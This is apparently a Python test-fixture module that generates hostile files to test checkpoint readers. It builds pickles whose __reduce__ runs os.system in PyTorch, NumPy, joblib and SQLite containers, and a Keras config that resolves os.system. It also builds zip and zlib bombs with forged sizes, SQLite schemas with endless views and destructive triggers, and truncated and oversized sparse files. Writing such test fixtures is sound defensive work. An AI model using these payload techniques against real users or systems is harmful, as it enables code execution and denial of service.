"""Files of every format that attack their reader: they run code when they are loaded, are bombs, are cut off, or claim absurd sizes."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import sqlite3
import struct
import zipfile
import zlib
from contextlib import closing
from pathlib import Path

GOLDEN = Path(__file__).parents[1] / "readers" / "golden"
LARGE = 3 * 2**30
"""Bytes to which a bomb grows; it fits into a zip file without zip64."""
SPARSE = 10 * 2**30
LANGGRAPH = "thread_id, checkpoint_ns, checkpoint_id, parent_checkpoint_id, type, checkpoint, metadata"
ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x, x, x, x, x, x, x FROM n"


class Attack:
    """Runs a command when it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def write_zip(path, members):
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def create_attacks(directory, marker):
    """Write a pickle that runs a command in every format that contains pickles, and a model of Keras with code. Return the pickle."""
    data = pickle.dumps({"weights": Attack(marker), "epoch": 3}, 2)
    (directory / "a.pkl").write_bytes(data)
    (directory / "a.joblib").write_bytes(zlib.compress(data))
    write_zip(directory / "a.pt", {"a/data.pkl": data, "a/version": "3"})
    legacy = (GOLDEN / "legacy.pt").read_bytes()
    start = legacy.index(b".", legacy.index(b"little_endian")) + 1  # after the magic number, the protocol and the system
    (directory / "legacy.pth").write_bytes(legacy[:start] + data + pickle.dumps([], 2))
    (directory / "dcp").mkdir()
    (directory / "dcp" / ".metadata").write_bytes(data)
    (directory / "dcp" / "__0_0.distcp").write_bytes(b"")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data
    (directory / "a.npy").write_bytes(array)
    write_zip(directory / "a.npz", {"a.npy": array})
    with zipfile.ZipFile(GOLDEN / "model.keras") as archive:
        weights = archive.read("model.weights.h5")
    layer = {"class_name": "Lambda", "module": "os", "config": {"function": f"touch {marker}"}}
    config = {"class_name": "system", "module": "os", "config": {"layers": [layer]}}
    write_zip(directory / "a.keras", {"config.json": json.dumps(config), "metadata.json": "{}", "model.weights.h5": weights})
    create_database(directory / "a.db", f"CREATE TABLE checkpoints ({LANGGRAPH})")
    with closing(sqlite3.connect(directory / "a.db")) as connection, connection:
        connection.execute("INSERT INTO checkpoints VALUES ('t', '', '1', NULL, 'pickle', ?, ?)", (data, data))
    return data


def deflated_zeros(size):
    """Return a deflate stream of zeros, without compressing all of them."""
    piece = 2**20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(bytes(piece)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (size // piece) + compressor.flush()


def compressed_zeros(size):
    """Return a pickle of zero bytes in the format of zlib, without compressing all of them."""
    compressor = zlib.compressobj(9)
    start, checksum = b"\x80\x05\x8e" + struct.pack("<Q", size), 1
    stream = compressor.compress(start) + compressor.flush(zlib.Z_FULL_FLUSH)
    zeros = compressor.compress(bytes(2**20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(b".") + compressor.flush()
    for part in (start, *[bytes(2**20)] * (size // 2**20), b"."):
        checksum = zlib.adler32(part, checksum)
    return stream + zeros * (size // 2**20) + end[:-4] + struct.pack(">L", checksum)


def create_bombs(directory):
    """Write zip files with a member that becomes 3 GiB, and again with a directory that declares 1000 bytes; and a joblib file."""
    zeros = deflated_zeros(LARGE)
    for name, member, siblings in (
        ("bomb.pt", "a/data.pkl", {}),
        ("bomb.npz", "a.npy", {}),
        ("bomb.keras", "config.json", {"metadata.json": "{}"}),
    ):
        for prefix, size in (("", LARGE), ("lying-", 1000)):
            path = directory / f"{prefix}{name}"
            write_zip(path, {member: b"\x00" * 10, **siblings})
            _replace_member(path, member, zeros, size)
    (directory / "bomb.joblib").write_bytes(compressed_zeros(2**30))


def _replace_member(path, member, stream, size):
    """Replace the content of the first member by a deflate stream, and its size in the directory."""
    data = path.read_bytes()
    name = member.encode()
    start = data.index(name) + len(name)
    directory = data.index(b"PK\x01\x02")
    growth = len(stream) - 10
    entries = bytearray(data[directory:])
    position = 0
    while (position := entries.find(b"PK\x01\x02", position)) >= 0:
        if entries[position + 46 :].startswith(name):
            struct.pack_into("<H", entries, position + 10, 8)
            struct.pack_into("<LL", entries, position + 20, len(stream), size)
        else:
            offset = struct.unpack_from("<L", entries, position + 42)[0]
            struct.pack_into("<L", entries, position + 42, offset + growth)
        position += 46
    end = entries.rindex(b"PK\x05\x06")
    struct.pack_into("<L", entries, end + 16, directory + growth)
    path.write_bytes(data[:start] + stream + data[start + 10 : directory] + bytes(entries))


def create_database(path, *statements):
    with closing(sqlite3.connect(path)) as connection, connection:
        for statement in statements:
            connection.execute(statement)


def create_hostile_schemas(directory):
    """Write databases that look like those of LangGraph or of the core, and run SQL of their own when they are read or written."""
    core = "task, id, header, payload, created, step, status"
    table = f"CREATE TABLE checkpoints ({LANGGRAPH})"
    row = "INSERT INTO checkpoints VALUES ('t', '', '1', NULL, 'msgpack', x'80', '{}')"
    change = "BEGIN DELETE FROM checkpoints; UPDATE checkpoints SET thread_id = 'hacked'; END"
    for name, statements in {
        "view": (f"CREATE VIEW checkpoints ({LANGGRAPH}) AS {ENDLESS}",),
        "core-view": (f"CREATE VIEW checkpoints ({core}) AS {ENDLESS}",),
        "writes-view": (table, row, f"CREATE VIEW writes (thread_id, checkpoint_ns, checkpoint_id, value, a, b, c) AS {ENDLESS}"),
        "triggers": (table, row, *(f"CREATE TRIGGER t_{kind} BEFORE {kind} ON checkpoints {change}" for kind in ("INSERT", "UPDATE"))),
        "virtual": (f"CREATE VIRTUAL TABLE checkpoints USING fts5({LANGGRAPH})",),
        "generated": (f"CREATE TABLE checkpoints ({LANGGRAPH}, x AS (hex(zeroblob(999999999))))",),
        "core-generated": (f"CREATE TABLE checkpoints ({core}, x AS (hex(zeroblob(999999999))))",),
        "index": (table, row, "CREATE INDEX i ON checkpoints (thread_id) WHERE length(hex(checkpoint)) > 0"),
    }.items():
        create_database(directory / f"{name}.db", *statements)


def create_cut_files(directory):
    """Write the first half of each golden file, and each golden directory with its largest file cut off or removed."""
    for golden in sorted(GOLDEN.iterdir()):
        if golden.suffix in (".py", ".json"):
            continue
        copy = directory / golden.name
        if golden.is_file():
            data = golden.read_bytes()
            copy.write_bytes(data[: len(data) // 2])
            continue
        shutil.copytree(golden, copy)
        structure = next(path for path in (copy / ".metadata", copy / "_METADATA") if path.exists())
        structure.write_bytes(structure.read_bytes()[: structure.stat().st_size // 2])
    shutil.copytree(GOLDEN / "dcp", directory / "dcp-short")
    part = next((directory / "dcp-short").glob("*.distcp"))
    part.write_bytes(part.read_bytes()[:-100])


def create_dense_files(directory):
    """Write files of which each byte becomes up to a hundred in memory: JSON of empty lists, short tensors, many members, small numbers."""
    count = 30_000_000
    with zipfile.ZipFile(directory / "metadata.keras", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", "{}")
        archive.writestr("metadata.json", '{"a":[' + "[]," * count + "[]]}")
    shutil.copytree(GOLDEN / "orbax", directory / "orbax")
    (directory / "orbax" / "_CHECKPOINT_METADATA").write_text('{"a":[' + "[]," * count + "[]]}")
    header = b"{" + b",".join(b'"%d":{"dtype":"U8","shape":[],"data_offsets":[0,0]}' % number for number in range(1_600_000)) + b"}"
    (directory / "many.safetensors").write_bytes(struct.pack("<Q", len(header)) + header)
    members = 2_000_000
    entry = struct.Struct("<4s6H3L5H2L7s")
    entries = b"".join(entry.pack(b"PK\x01\x02", *[0] * 9, 7, *[0] * 6, b"%07d" % number) for number in range(members))
    end = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, members, members, len(entries), 4)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, 4 + len(entries), 1)
    last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    (directory / "many.pt").write_bytes(b"PK\x03\x04" + entries + end + locator + last)
    numbers = b"\xdd" + struct.pack(">L", count) + b"\x01" * count
    create_database(directory / "numbers.db", f"CREATE TABLE checkpoints ({LANGGRAPH})")
    with closing(sqlite3.connect(directory / "numbers.db")) as connection, connection:
        checkpoint = b"\x81\xaechannel_values\x81\xa7numbers" + numbers
        connection.execute("INSERT INTO checkpoints VALUES ('t', '', '1', NULL, 'msgpack', ?, '{}')", (checkpoint,))


def create_sparse_files(directory):
    """Write a file of 10 GiB for each extension, of zeros, and another with the right magic bytes at both ends."""
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, 0xFFFFFFF0, 0, 0)
    zip_file = (b"PK\x03\x04", end)
    ends = {
        "pt": zip_file,
        "pth": (b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.", b""),
        "npz": zip_file,
        "keras": zip_file,
        "npy": (b"\x93NUMPY\x02\x00\xff\xff\xff\xff", b""),
        "safetensors": (struct.pack("<Q", 99_999_999) + b"{", b""),
        "pkl": (b"\x80\x05](", b""),
        "joblib": (b"\x78\x9c", b""),
        "db": (b"SQLite format 3\x00" + bytes(84), b""),
        "ckpt": (b"\x80\x05\x8e" + struct.pack("<Q", SPARSE - 12), b"."),
    }
    for extension, (first, last) in ends.items():
        for name, start, tail in (("zeros", b"", b""), ("magic", first, last)):
            with open(directory / f"{name}.{extension}", "wb") as file:
                file.write(start)
                file.truncate(SPARSE)
                file.seek(SPARSE - len(tail))
                file.write(tail)
